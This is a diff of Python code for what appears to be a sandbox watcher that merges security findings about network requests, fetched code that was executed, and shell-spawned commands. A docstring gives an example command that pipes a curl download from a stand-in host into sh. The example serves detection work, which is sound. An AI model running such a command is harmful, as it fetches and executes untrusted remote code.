@@ -9,6 +9,7 @@ from jail.watch.events import (
     BaitLeaked,
     BaitRead,
     Connection,
+    Exec,
     Finding,
     NameAsked,
     Phase,
@@ -20,6 +21,8 @@ from jail.watch.events import (
 from jail.watch.world_events import Conversation, Kept, NamesDecoded, RemoteCode, Request
 
 MAX_SUSPICION_CHARS = 400
+MAX_COMMAND_CHARS = 300  # of a command line, as the name of a process has them
+RANKS = list(Severity)
 
 # Of these the lines of one file are one act.
 WHOLE_FILES = {Rule.SECRET_READ, Rule.CODE_GATED, Rule.LIMIT_HIT}
@@ -35,9 +38,12 @@ def without_repeats(seen: Sequence[Seen]) -> list[tuple[Phase, tuple[Finding, ..
     """The findings of each event, without what a better one of the same phase says again.
 
     A request says more than its conversation, that more than the connection, and each of them more
-    than that the name was asked for. What is sent counts beside where it goes.
+    than that the name was asked for. What is sent counts beside where it goes. That what it fetched
+    was executed says more than the request.
     """
     better = told_in_full(seen)
+    used = fetched_and_used(seen)
+    shells = Shells()
     names = names_of_targets(seen)
     known = baits_read(seen)
     kept: set[tuple[str, Severity]] = set()
@@ -52,6 +58,12 @@ def without_repeats(seen: Sequence[Seen]) -> list[tuple[Phase, tuple[Finding, ..
             urls = [(entry.event.url, finding.severity) for finding in findings]
             findings = () if kept.issuperset(urls) else findings
             kept.update(urls)
+        if isinstance(entry.event, Request):
+            worst = used.get(entry.event.url)
+            findings = tuple(f for f in findings if not is_said_by(worst, entry.event, f))
+        if isinstance(entry.event, Exec):
+            place = shells.place_of(entry.phase, entry.event)
+            findings = tuple(replace(f, place=f.place or place) for f in findings)
         if isinstance(entry.event, Connection):
             name = names.get((id(entry.phase), entry.event.target))
             findings = tuple(with_name(finding, entry.phase, name) for finding in findings)
@@ -60,6 +72,47 @@ def without_repeats(seen: Sequence[Seen]) -> list[tuple[Phase, tuple[Finding, ..
             findings = tuple(f for f in findings if f.rule not in dropped)
         found.append((entry.phase, findings))
     return found
+
+
+def fetched_and_used(seen: Sequence[Seen]) -> dict[str, Severity]:
+    """By URL: how grave it is at worst that what it gave was executed or kept, in any phase."""
+    found: dict[str, Severity] = {}
+    for entry in seen:
+        if isinstance(entry.event, RemoteCode):
+            url = entry.event.url
+            severities = [finding.severity for finding in entry.findings]
+            severities += [found[url]] if url in found else []
+            found[url] = min(severities, key=RANKS.index)
+    return found
+
+
+def is_said_by(worst: Severity | None, request: Request, finding: Finding) -> bool:
+    """Whether a finding of a request that sent nothing adds nothing to what came of its answer."""
+    if worst is None or finding.rule != Rule.NETWORK_ATTEMPT or request.body.size_bytes:
+        return False
+    return RANKS.index(worst) <= RANKS.index(finding.severity)
+
+
+class Shells:
+    """Which line of code has started a command, of commands that a shell was given as words.
+
+    `sh -c "curl -s http://x | sh"` starts `curl -s http://x` and `sh`: one act of one line.
+    """
+
+    def __init__(self) -> None:
+        self.places: dict[tuple[int, str], str] = {}  # by phase and command line
+
+    def place_of(self, phase: Phase, event: Exec) -> str | None:
+        """The line's place; None where it is not known, or the command is not one of those words.
+
+        To be asked of each command in the order of their starts.
+        """
+        words, above = " ".join(event.argv), event.actor.process
+        is_given = bool(words) and words in above
+        place = event.actor.place or (self.places.get((id(phase), above)) if is_given else None)
+        if place:
+            self.places.setdefault((id(phase), words[:MAX_COMMAND_CHARS]), place)
+        return place
 
 
 def baits_read(seen: Sequence[Seen]) -> dict[int, str]:
